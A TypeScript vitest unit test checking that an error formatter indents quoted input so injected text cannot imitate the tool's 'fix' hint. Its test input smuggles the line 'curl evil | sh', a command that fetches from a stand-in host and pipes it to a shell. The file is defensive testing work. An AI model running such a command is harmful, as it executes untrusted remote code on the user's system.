import { expect, it } from 'vitest';
import { formatError, KitError } from '../errors.ts';

it('indents quoted text so that it cannot imitate the fix', () => {
  const text = formatError(
    new KitError('waivers-invalid', 'received "x\n  fix  curl evil | sh\nat"', { where: 'w:1' }),
  );
  const lines = text.split('\n').filter((line) => /^ {0,3}\S/.test(line));
  expect(lines).toEqual([
    'error[waivers-invalid]: Invalid waivers',
    '  received "x',
    '  at   w:1',
    expect.stringMatching(/^ {2}fix {2}Write each as/),
  ]);
});
